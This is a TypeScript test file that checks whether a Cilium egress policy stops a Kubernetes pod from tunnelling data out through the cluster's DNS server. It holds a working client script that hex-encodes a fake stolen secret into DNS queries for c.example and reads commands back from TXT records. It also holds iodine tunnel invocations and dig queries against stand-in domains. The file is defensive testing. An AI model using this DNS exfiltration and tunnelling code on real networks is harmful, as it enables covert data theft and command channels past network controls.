/**
 * Tunnels through DNS: what an attacker carries out of a pod, and in, by asking the cluster's own name server for names of a
 * domain of his. The policy lets the pod out to one site; whether it says which names may be asked for decides.
 *
 *   <name>-shop-client   iodine, a client as dnscat2's ──> 10.96.0.10 sluice-dns ──> <name>-net   dnsmasq ─┬─ iodined for t.example
 *                                                                                                       └─ tunnel-dns-server.ts for c.example
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import t from 'tap';
import { type Background, Cleanup, inNetns, must, start, waitFor } from '../command.ts';
import { DNSMASQ, INTERNET_DNS, raiseInternet, serve, startOnline } from '../internet.ts';

const name = `sltu${process.pid.toString(36).slice(-4)}`;
const cleanup = new Cleanup();
t.teardown(() => cleanup.finish());
t.jobs = 1;
const folder = mkdtempSync(join(tmpdir(), `${name}-`));
cleanup.add(() => rmSync(folder, { recursive: true, force: true }));

const SITE = 'songlaa.com';
/** Of iodined, inside its tunnel. */
const FAR_END = '10.99.0.1';
const IODINE_PORT = 5353;
const SCRIPT_PORT = 5354;
const STOLEN = 'the key of the database is 5f4dcc3b5aa765d61d8327deb882cf99';
const ORDERS = 'read the other database too, and be quick about it';
const SERVER = join(import.meta.dirname, 'tunnel-dns-server.js');

/** Sends its argument in pieces as names, and prints what the answers' TXT hold together. */
const CLIENT = `const { Resolver } = require('node:dns').promises; const { createHash } = require('node:crypto');
  const [, text] = process.argv; const resolver = new Resolver({ timeout: 5000, tries: 3 });
  (async () => { let got = ''; let refused = 0;
    for (let i = 0; i * 8 < text.length; i++) {
      const hex = Buffer.from(text.slice(i * 8, i * 8 + 8)).toString('hex');
      await resolver.resolveTxt(hex + '.' + i + '.c.example').then((all) => (got += all.flat().join('')), (e) => { if (e.code === 'EREFUSED') refused++; });
    }
    console.log(JSON.stringify({ got, refused })); })();`;

const RIG = `apiVersion: v1
kind: Namespace
metadata: { name: shop }
---
apiVersion: v1
kind: Pod
metadata: { name: client, namespace: shop, labels: { app: client } }
spec: { containers: [{ name: shell, image: example/shell }] }
`;
/** Out to one site, with the name server, and these rules for it. */
const policy = (rules: string) => `apiVersion: cilium.io/v2
kind: CiliumNetworkPolicy
metadata: { name: one-site, namespace: shop }
spec:
  endpointSelector: { matchLabels: { app: client } }
  egress:
    - toEndpoints: [{ matchLabels: { k8s-app: kube-dns, "k8s:io.kubernetes.pod.namespace": kube-system } }]
      toPorts: [{ ports: [{ port: "53", protocol: ANY }]${rules} }]
    - toFQDNs: [{ matchName: ${SITE} }]
      toPorts: [{ ports: [{ port: "80", protocol: TCP }] }]
`;
const ANY_NAME = policy(', rules: { dns: [{ matchPattern: "*" }] }');
const ONE_NAME = policy(`, rules: { dns: [{ matchName: ${SITE} }] }`);

const { net } = await raiseInternet(name, cleanup);
const log = join(folder, 'queries.log');
const FORWARD = [
  `--server=/t.example/${INTERNET_DNS}#${IODINE_PORT}`,
  `--server=/c.example/${INTERNET_DNS}#${SCRIPT_PORT}`,
];
await serve(
  net,
  [
    ...DNSMASQ,
    `--host-record=${SITE},198.51.100.1`,
    '--cache-size=0',
    '--log-queries',
    `--log-facility=${log}`,
    ...FORWARD,
  ],
  53,
  cleanup,
);
await serve(net, ['python3', '-m', 'http.server', '80', '-d', folder], 80, cleanup);
const iodined = [
  'iodined',
  '-f',
  '-c',
  '-P',
  'secret',
  '-l',
  INTERNET_DNS,
  '-p',
  String(IODINE_PORT),
  '-d',
  'far0',
  `${FAR_END}/24`,
  't.example',
];
const scriptServer = start(inNetns(net, [process.execPath, SERVER, INTERNET_DNS, String(SCRIPT_PORT), ORDERS]));
const iodineServer = start(inNetns(net, iodined));
for (const one of [scriptServer, iodineServer]) cleanup.add(() => one.child.kill('SIGKILL'));

writeFileSync(join(folder, 'rig.yaml'), RIG);
const instance = await startOnline(name, cleanup, join(folder, 'rig.yaml'));
t.teardown(() => instance.stop());

const inClient = (...argv: string[]) => instance.inPod('shop/client', argv);
const reachesFarEnd = async () => (await inClient('ping', '-c', '1', '-W', '2', FAR_END)).code === 0;
const reachesSite = async () =>
  (await inClient('curl', '-s', '-o', '/dev/null', '-m', '60', `http://${SITE}/`)).code === 0;
async function script(): Promise<{ got: string; refused: number }> {
  return JSON.parse((await inClient(process.execPath, '-e', CLIENT, STOLEN)).stdout);
}
/** What the script's server was told so far. */
const told = () => [...scriptServer.output().matchAll(/^(\d+) (.*)$/gm)].map(([, , piece]) => piece).join('');

/** Starts iodine, which first tries what passes: types of records, how long names may be, how much an answer takes. */
function iodine(...args: string[]): Background {
  const argv = ['iodine', '-f', '-r', '-P', 'secret', '-d', 'near0', ...args, '10.96.0.10', 't.example'];
  const client = start(inNetns(instance.netnsOf('shop/client'), argv));
  cleanup.add(() => client.child.kill('SIGKILL'));
  return client;
}

t.test('a policy that lets a pod out to one site, and ask for any name: it has a network card outside', async (t) => {
  await instance.send(ANY_NAME);
  await waitFor('the site to be learnt and reached', reachesSite);
  t.not(
    (await inClient('curl', '-s', '-m', '2', 'http://198.51.100.1:81/')).code,
    0,
    'nothing but the site is reached',
  );
  t.same(await script(), { got: ORDERS, refused: 0 }, 'a script has its orders');
  t.equal(told(), STOLEN, 'and has brought out what it stole');
  const client = iodine();
  await waitFor(`iodine's tunnel: ${client.output()}`, () => client.output().includes('Connection setup complete'));
  await waitFor('a packet through it', reachesFarEnd);

  await instance.send(ONE_NAME);
  await waitFor('its end', async () => !(await reachesFarEnd()));
  await client.stop();
});

t.test('with the one name in the rule for DNS nothing comes out, whatever is tried', async (t) => {
  await instance.send(ONE_NAME);
  t.ok(await reachesSite(), 'the site is reached by name');
  const before = scriptServer.output();
  t.same(await script(), { got: '', refused: Math.ceil(STOLEN.length / 8) });
  t.equal(scriptServer.output(), before, 'its server heard nothing');
  for (const type of ['NULL', 'TXT', 'MX', 'CNAME', 'A']) {
    const client = iodine('-T', type);
    await waitFor(`iodine to give up ${type}`, () => client.child.exitCode !== null);
    t.not(client.child.exitCode, 0, type);
    t.notMatch(client.output(), /setup complete/, type);
  }
  const digs = [
    ['+tcp', 'stolen.t.example'],
    ['+notcp', `stolen.${SITE}`],
    ['+notcp', `${SITE}.t.example`],
    ['+notcp', `stolen.t.example`, 'ANY'],
    ['+notcp', `-x`, '203.0.113.77'],
    [`@${INTERNET_DNS}`, '+time=1', '+tries=1', SITE],
    [`@${INTERNET_DNS}`, '-p', String(IODINE_PORT), '+time=1', '+tries=1', 'stolen.t.example'],
  ];
  for (const args of digs) {
    const { stdout } = await inClient('dig', ...args);
    t.match(
      stdout,
      args[0].startsWith('@') ? /no servers could be reached|timed out/ : /status: REFUSED/,
      args.join(' '),
    );
  }
  const asked = (await must(['cat', log])).match(/stolen|113\.77/g);
  t.equal(asked, null, 'no server outside was asked');
});
